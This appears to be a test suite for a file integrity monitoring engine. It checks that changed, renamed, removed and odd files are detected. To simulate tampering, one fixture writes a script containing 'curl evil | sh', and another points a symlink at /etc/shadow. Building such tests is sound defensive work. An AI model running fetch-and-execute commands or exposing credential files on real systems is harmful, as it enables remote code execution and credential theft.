import { test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, readdirSync, renameSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { FimEngine, scanOnce } from '../src/index.js';
import { byPath, diffOf, sandbox } from './helpers.js';

test('the first scan takes a baseline and reports one baseline event per root; an unchanged tree reports nothing', async () => {
  const s = sandbox();
  try {
    const first = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    assert.deepEqual(
      first.events.map((e) => [e.op, e.path]),
      [['baseline', s.tree]],
    );
    assert.equal(first.stats.files, 8);
    assert.equal(first.stats.dirs, 3);
    const again = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    assert.deepEqual(again.events, []);
  } finally {
    s.cleanup();
  }
});

test('a content change is reported as changed with sha256, size and mtime, before and after', async () => {
  const s = sandbox();
  try {
    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const f = join(s.tree, 'etc', 'app1.conf');
    const t = statSync(f).mtime;
    writeFileSync(f, 'setting=evil\n');
    utimesSync(f, t, new Date(t.getTime() + 5000)); // a visible mtime step even on a coarse clock
    const { events } = await scanOnce({
      policy: { paths: [s.tree] },
      stateDir: s.state,
      ctx: s.ctx,
      scanKind: 'scheduled',
    });
    const [e] = byPath(events, f);
    assert.ok(e, 'event for the file');
    assert.equal(e.op, 'changed');
    assert.equal(e.scan, 'scheduled');
    for (const a of ['sha256', 'size', 'mtime'] as const)
      assert.ok(diffOf(e).includes(a), `${a} in ${diffOf(e).join(',')}`);
    assert.equal(e.after!.size, 13);
    assert.equal(e.before!.size, 10);
    assert.equal(e.after!.sha256, createHash('sha256').update('setting=evil\n').digest('hex'));
    assert.notEqual(e.before!.sha256, e.after!.sha256);
    assert.equal(e.error, null);
    // Its directory did not change (the file was rewritten in place).
    assert.deepEqual(byPath(events, join(s.tree, 'etc')), []);
  } finally {
    s.cleanup();
  }
});

test('content rewritten with size and mtime restored is still caught: every file is re-hashed unless the policy trusts stat', async () => {
  const s = sandbox();
  try {
    const policy = { paths: [s.tree], attributes: ['sha256' as const, 'size' as const, 'mtime' as const] };
    const f = join(s.tree, 'etc', 'app2.conf');
    utimesSync(f, 1_700_000_000, 1_700_000_000); // whole seconds: restorable exactly
    await scanOnce({ policy, stateDir: s.state, ctx: s.ctx });
    writeFileSync(f, 'setting=X\n'); // same length
    utimesSync(f, 1_700_000_000, 1_700_000_000);
    const { events } = await scanOnce({ policy, stateDir: s.state, ctx: s.ctx });
    assert.deepEqual(
      events.map((e) => [e.op, e.path, diffOf(e).filter((a) => a !== 'ctime')]),
      [['changed', f, ['sha256']]],
    );
  } finally {
    s.cleanup();
  }
});

test('a permission-only change is reported with mode (and the ctime chmod sets), content untouched', async () => {
  const s = sandbox();
  try {
    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const f = join(s.tree, 'bin', 'tool0');
    chmodSync(f, 0o4755);
    const { events } = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    assert.equal(events.length, 1);
    const [e] = events;
    assert.equal(e!.op, 'changed');
    assert.deepEqual(
      diffOf(e!).filter((a) => a !== 'ctime'),
      ['mode'],
    );
    assert.equal(e!.before!.mode & 0o7777, 0o755);
    assert.equal(e!.after!.mode & 0o7777, 0o4755);
    assert.equal(e!.before!.sha256, e!.after!.sha256);
    // With ctime not checked, mode is the only difference reported.
    const policy = {
      paths: [s.tree],
      attributes: ['mode' as const, 'sha256' as const, 'size' as const, 'mtime' as const, 'uid' as const],
    };
    chmodSync(f, 0o700);
    const only = await scanOnce({ policy, stateDir: s.state, ctx: s.ctx });
    assert.deepEqual(
      only.events.map((x) => x.op),
      ['changed'],
    );
    assert.deepEqual(
      diffOf(only.events[0]!).filter((a) => a !== 'ctime'),
      ['mode'],
    );
  } finally {
    s.cleanup();
  }
});

test('an owner change names uid and owner before and after', async () => {
  const s = sandbox();
  try {
    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const f = join(s.tree, 'etc', 'app0.conf');
    execFileSync('chown', ['65534:65534', f]);
    const { events } = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const [e] = byPath(events, f);
    assert.ok(diffOf(e!).includes('uid') && diffOf(e!).includes('gid'));
    assert.equal(e!.before!.owner, 'root');
    assert.equal(e!.after!.owner, 'nobody');
  } finally {
    s.cleanup();
  }
});

test('a file deleted and re-created under its name is changed, with inode among the differences when the inode differs', async () => {
  const s = sandbox();
  try {
    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const f = join(s.tree, 'etc', 'app3.conf');
    const keep = join(s.dir, 'holder');
    // Keep a file alive while deleting, so the new file cannot get the old inode number back.
    writeFileSync(keep, 'x');
    const oldIno = statSync(f).ino;
    rmSync(f);
    writeFileSync(join(s.dir, 'holder2'), 'y'); // takes the freed inode, if the fs reuses it at once
    writeFileSync(f, 'setting=3\n'); // same content as before
    const newIno = statSync(f).ino;
    const { events } = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const [e] = byPath(events, f);
    assert.ok(e);
    assert.equal(e.op, 'changed');
    assert.equal(e.before!.sha256, e.after!.sha256, 'same content');
    if (oldIno !== newIno) assert.ok(diffOf(e).includes('inode'));
    assert.ok(diffOf(e).includes('ctime'));
    // Its directory's mtime moved (an entry was removed and added).
    assert.equal(byPath(events, join(s.tree, 'etc'))[0]?.op, 'changed');
  } finally {
    s.cleanup();
  }
});

test('renames of a file and of a directory are reported as renamed, with renamed_from', async () => {
  const s = sandbox();
  try {
    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const from = join(s.tree, 'etc', 'app4.conf');
    const to = join(s.tree, 'etc', 'app4.conf.bak');
    renameSync(from, to);
    renameSync(join(s.tree, 'bin'), join(s.tree, 'sbin'));
    const { events } = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const renamed = events.filter((e) => e.op === 'renamed').map((e) => [e.renamed_from, e.path]);
    assert.deepEqual(
      renamed.sort(),
      [
        [from, to],
        [join(s.tree, 'bin'), join(s.tree, 'sbin')],
        ...[0, 1, 2].map((i) => [join(s.tree, 'bin', `tool${i}`), join(s.tree, 'sbin', `tool${i}`)]),
      ].sort(),
    );
    assert.deepEqual(
      events.filter((e) => e.op === 'added' || e.op === 'removed'),
      [],
    );
  } finally {
    s.cleanup();
  }
});

test('a removed file and an added file with a reused inode number are not mistaken for a rename', async () => {
  const s = sandbox();
  try {
    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const gone = join(s.tree, 'etc', 'app0.conf');
    const ino = statSync(gone).ino;
    rmSync(gone);
    const fresh = join(s.tree, 'etc', 'new.conf');
    writeFileSync(fresh, 'x');
    utimesSync(fresh, new Date(), new Date(Date.now() + 10_000)); // a new file has a new mtime
    const { events } = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    assert.equal(byPath(events, fresh)[0]?.op, 'added', `inode ${ino} vs ${statSync(fresh).ino}`);
    assert.equal(byPath(events, gone)[0]?.op, 'removed');
    assert.equal(byPath(events, gone)[0]?.after, null);
  } finally {
    s.cleanup();
  }
});

test('changes made while the agent was down are reported at the next start (baseline on disk)', async () => {
  const s = sandbox();
  try {
    const policy = { paths: [s.tree] };
    const a = new FimEngine({ policy, stateDir: s.state, ctx: s.ctx, identity: { agent: 'ag1', vm: 'vm1' } });
    assert.equal(await a.load(), false);
    await a.fullScan('startup');
    await a.save();
    await a.close();
    // "down": nothing is watching
    writeFileSync(join(s.tree, 'etc', 'app0.conf'), 'backdoor=1\n');
    writeFileSync(join(s.tree, 'bin', 'dropper'), 'payload');
    rmSync(join(s.tree, 'etc', 'app1.conf'));
    const b = new FimEngine({ policy, stateDir: s.state, ctx: s.ctx, identity: { agent: 'ag1', vm: 'vm1' } });
    assert.equal(await b.load(), true);
    const { events } = await b.fullScan('startup');
    await b.close();
    const files = events.filter((e) => e.after?.type !== 'dir' && e.before?.type !== 'dir');
    assert.deepEqual(
      files.map((e) => [e.op, e.path]),
      [
        ['added', join(s.tree, 'bin', 'dropper')],
        ['changed', join(s.tree, 'etc', 'app0.conf')],
        ['removed', join(s.tree, 'etc', 'app1.conf')],
      ],
    );
    for (const e of events) {
      assert.equal(e.scan, 'startup');
      assert.equal(e.agent, 'ag1');
      assert.equal(e.vm, 'vm1');
      assert.match(e.event_id, /^[0-9a-f]{32}$/);
    }
  } finally {
    s.cleanup();
  }
});

test('a change reported but not saved (crash) is reported again with the same event_id', async () => {
  const s = sandbox();
  try {
    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    chmodSync(join(s.tree, 'etc', 'app0.conf'), 0o600);
    const first = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx, update: false });
    const second = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    assert.equal(first.events.length, 1);
    assert.deepEqual(
      second.events.map((e) => e.event_id),
      first.events.map((e) => e.event_id),
    );
    assert.deepEqual((await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx })).events, []);
  } finally {
    s.cleanup();
  }
});

test('symlinks are recorded, not followed: a retargeted link is changed with link_target', async () => {
  const s = sandbox();
  try {
    const link = join(s.tree, 'etc', 'current');
    const { symlinkSync } = await import('node:fs');
    symlinkSync('app0.conf', link);
    symlinkSync('/', join(s.tree, 'root-link')); // followed, this would walk the whole machine
    const first = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    assert.equal(first.stats.entries, 13);
    rmSync(link);
    symlinkSync('/etc/shadow', link);
    const { events } = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const [e] = byPath(events, link);
    assert.equal(e!.after!.type, 'symlink');
    assert.equal(e!.before!.link_target, 'app0.conf');
    assert.equal(e!.after!.link_target, '/etc/shadow');
    assert.ok(diffOf(e!).includes('link_target'));
    assert.equal(e!.after!.sha256, null);
  } finally {
    s.cleanup();
  }
});

test('include and exclude patterns select what is watched; excluded directories are not descended', async () => {
  const s = sandbox();
  try {
    mkdirSync(join(s.tree, 'cache', 'deep'), { recursive: true });
    writeFileSync(join(s.tree, 'cache', 'deep', 'x.conf'), 'x');
    const policy = { paths: [s.tree], include: ['*.conf'], exclude: [`${s.tree}/cache`, 'app4.*'] };
    const first = await scanOnce({ policy, stateDir: s.state, ctx: s.ctx });
    assert.equal(first.stats.entries, 4); // app0..app3.conf
    writeFileSync(join(s.tree, 'cache', 'deep', 'x.conf'), 'changed');
    writeFileSync(join(s.tree, 'etc', 'app4.conf'), 'changed');
    writeFileSync(join(s.tree, 'bin', 'tool0'), 'changed');
    writeFileSync(join(s.tree, 'bin', 'new.conf'), 'new');
    const { events } = await scanOnce({ policy, stateDir: s.state, ctx: s.ctx });
    assert.deepEqual(
      events.map((e) => [e.op, e.path]),
      [['added', join(s.tree, 'bin', 'new.conf')]],
    );
  } finally {
    s.cleanup();
  }
});

test('a FIFO is recorded with an error saying it is never opened, and the scan does not hang', async () => {
  const s = sandbox();
  try {
    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const fifo = join(s.tree, 'etc', 'pipe');
    execFileSync('mkfifo', [fifo]);
    const { events } = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const [e] = byPath(events, fifo);
    assert.equal(e!.op, 'added');
    assert.equal(e!.after!.type, 'other');
    assert.equal(e!.after!.sha256, null);
    assert.match(e!.error!, /^CORDON_ERR_FIM_NOT_REGULAR: .*FIFO/);
    // Reported once: the next scan is quiet.
    assert.deepEqual((await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx })).events, []);
  } finally {
    s.cleanup();
  }
});

test('a file over the hashing cap is not hashed, says so, and its size change is still reported', async () => {
  const s = sandbox();
  try {
    const big = join(s.tree, 'bin', 'big.img');
    writeFileSync(big, Buffer.alloc(50_000, 7));
    const policy = { paths: [s.tree], maxHashBytes: 10_000 };
    await scanOnce({ policy, stateDir: s.state, ctx: s.ctx });
    writeFileSync(big, Buffer.alloc(60_000, 7));
    const { events } = await scanOnce({ policy, stateDir: s.state, ctx: s.ctx });
    const [e] = byPath(events, big);
    assert.equal(e!.op, 'changed');
    assert.ok(diffOf(e!).includes('size'));
    assert.equal(e!.after!.sha256, null);
    assert.match(e!.error!, /^CORDON_ERR_FIM_TOO_LARGE: .* 60000 bytes, over the 10000-byte/);
  } finally {
    s.cleanup();
  }
});

test('a corrupt baseline is set aside with an error and a new baseline is taken', async () => {
  const s = sandbox();
  try {
    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const file = join(s.state, 'fim-baseline.cfim');
    const { readFileSync } = await import('node:fs');
    const data = readFileSync(file);
    writeFileSync(file, data.subarray(0, data.length - 100));
    const { events } = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    assert.deepEqual(
      events.map((e) => e.op),
      ['baseline'],
    );
    assert.equal(s.metrics.get('fim.errors'), 1);
    assert.ok(readdirSync(s.state).some((f) => f.startsWith('fim-baseline.cfim.corrupt-')));
  } finally {
    s.cleanup();
  }
});

test('a new root added to the policy is baselined, not reported as additions', async () => {
  const s = sandbox();
  try {
    const other = join(s.dir, 'other');
    mkdirSync(other);
    writeFileSync(join(other, 'f'), 'x');
    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    writeFileSync(join(s.tree, 'etc', 'app0.conf'), 'changed!!');
    const { events } = await scanOnce({ policy: { paths: [s.tree, other] }, stateDir: s.state, ctx: s.ctx });
    assert.deepEqual(
      events.map((e) => [e.op, e.path]),
      [
        ['baseline', other],
        ['changed', join(s.tree, 'etc', 'app0.conf')],
      ],
    );
  } finally {
    s.cleanup();
  }
});

test('a file whose name is not UTF-8 is reported (added, then removed) under an escaped name with a coded error, not skipped', async () => {
  const s = sandbox();
  try {
    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const etc = join(s.tree, 'etc');
    // "ev\xffil.sh": a byte that no UTF-8 decoding keeps (a lossy decode names another path)
    const raw = Buffer.concat([Buffer.from(`${etc}/ev`), Buffer.from([0xff]), Buffer.from('il.sh')]);
    writeFileSync(raw, '#!/bin/sh\ncurl evil | sh\n');
    const shown = `${etc}/ev\\xffil.sh`;
    const added = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    const [e] = byPath(added.events, shown);
    assert.ok(e, `an event for ${shown}: ${JSON.stringify(added.events.map((x) => x.path))}`);
    assert.equal(e.op, 'added');
    assert.match(e.error ?? '', /^CORDON_ERR_FIM_NAME_NOT_UTF8: .* \(bytes 6576ff696c2e7368\)/);
    const again = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    assert.deepEqual(byPath(again.events, shown), [], 'reported once, not on every scan');
    rmSync(raw);
    const removed = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
    assert.deepEqual(
      byPath(removed.events, shown).map((x) => x.op),
      ['removed'],
    );
  } finally {
    s.cleanup();
  }
});
